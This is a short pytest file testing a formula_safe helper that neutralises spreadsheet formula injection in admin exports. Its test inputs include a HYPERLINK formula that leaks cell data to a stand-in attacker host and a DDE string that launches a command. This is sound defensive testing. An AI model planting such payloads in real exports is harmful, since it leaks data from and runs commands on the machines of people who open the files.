"""The one guard every admin export uses against spreadsheet formulas (review.exports)."""

import pytest

from review.exports import formula_safe


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_value_a_spreadsheet_would_run_becomes_text_and_keeps_every_character(typed):
    assert formula_safe(typed) == "'" + typed


@pytest.mark.parametrize("value", ["Too many numbers.", "", " =1+1", "1-2", 42, None, True])
def test_anything_else_is_left_as_it_is(value):
    assert formula_safe(value) is value
